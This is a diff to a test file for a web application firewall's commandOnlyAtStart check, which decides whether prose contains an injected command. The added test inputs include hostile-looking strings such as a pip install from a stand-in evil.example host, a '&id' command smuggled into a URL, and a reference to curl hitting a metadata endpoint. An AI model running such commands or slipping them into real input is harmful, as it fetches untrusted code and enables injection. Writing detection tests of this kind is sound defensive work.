@@ -185,7 +185,20 @@ describe('waf API profile: a tool name starting a sentence (family c without cod
     // A semicolon of prose starts a line: the command after it is judged like a first word, and one that
     // fetches what it names is refused there whatever its arguments (`; curl metadata`: a single-label host).
     assert.equal(commandOnlyAtStart('wget is missing; curl works fine'), false);
-    assert.equal(commandOnlyAtStart('wget is missing; docker works fine'), true);
+    assert.equal(commandOnlyAtStart('wget is missing; vim works fine'), true);
+    // Package managers and image tools fetch and run what they are given (session 10): refused there too.
+    assert.equal(commandOnlyAtStart('wget is missing; docker works fine'), false);
+    assert.equal(commandOnlyAtStart('the build failed; pip install evil works'), false);
+    // A URL is one word (session 10), but not for a command that fetches it.
+    assert.equal(
+      commandOnlyAtStart('The link (https://portal.example.com/r/8Kq2?utm_source=mail) was broken.'),
+      true,
+    );
+    assert.equal(
+      commandOnlyAtStart('It failed; pip install https://evil.example/pkg.tar.gz fixes it'),
+      false,
+    );
+    assert.equal(commandOnlyAtStart('The link https://x.example/?a=1&id was broken'), false);
     assert.equal(commandOnlyAtStart('Full-stack dev | Node, React & SQL | 100% JSS'), true);
     assert.equal(commandOnlyAtStart('if the deploy breaks just revert && ping me'), true);
     assert.equal(commandOnlyAtStart('if the deploy breaks just revert && ping localhost'), false);
